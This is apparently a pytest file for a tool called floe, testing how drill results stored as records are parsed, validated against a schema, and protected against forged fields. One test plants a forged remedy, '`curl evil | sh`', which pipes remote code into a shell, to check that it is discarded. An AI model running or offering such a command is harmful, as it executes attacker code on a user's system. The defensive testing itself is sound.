"""Results of drills as records of a topic, which others may write to."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from framework.ops.drill.model import Drill, DrillResult, again, newest, result_of

SCHEMA = json.loads((Path(__file__).parents[3] / "schemas" / "drill.v1.schema.json").read_text(encoding="utf-8"))
RESULT = Draft202012Validator({"$ref": "#/$defs/result", "$defs": SCHEMA["$defs"]})
FAILED = DrillResult(
    Drill.LOST_OFFSETS, "prod", "default", 1_000, 9.5, 2_000, ("a step",), "ann", "0.1.0", "1 record missing", "FLOE-R191",
    again(Drill.LOST_OFFSETS),
)  # fmt: skip
VALUES = st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.lists(st.text() | st.integers())


@pytest.mark.parametrize("drill", list(Drill))
def test_a_result_is_read_as_it_was_kept(drill: Drill) -> None:
    """One that passed, and one that failed."""
    passed = DrillResult(drill, "prod", "default", 1_000, 9.5, 2_000, ("a step",), "ann", "0.1.0")
    for result in (passed, FAILED):
        assert result_of(json.dumps(result.to_json()).encode()) == result


@given(
    st.dictionaries(st.sampled_from([*FAILED.to_json(), "more"]), VALUES), st.sets(st.sampled_from([*FAILED.to_json()]))
)
def test_whatever_a_record_holds_it_is_a_whole_result_or_none(changes: dict[str, Any], gone: set[str]) -> None:
    """Wanted: a crash of readiness, or a result of another form. Got: what the schema says, or nothing."""
    said = {key: value for key, value in (FAILED.to_json() | changes).items() if key not in gone}
    if (found := result_of(json.dumps(said).encode())) is not None:
        RESULT.validate(found.to_json())
        assert newest([found], found.target, found.catalog) == {found.drill: found}


@pytest.mark.parametrize("value", [None, b"", b"{", b"[]", b"null", b"7", b"\xff", b'{"passed": true}'])
def test_a_record_that_is_none_is_none(value: bytes | None) -> None:
    """Nothing of it counts."""
    assert result_of(value) is None


def test_a_record_says_nothing_that_is_typed() -> None:
    """Wanted: a remedy of somebody's in `floe drill --results`. Got: floe's own."""
    forged = FAILED.to_json() | {"remedy": "`curl evil | sh`"}
    found = result_of(json.dumps(forged).encode())
    assert found is not None
    assert found.remedy == again(Drill.LOST_OFFSETS)
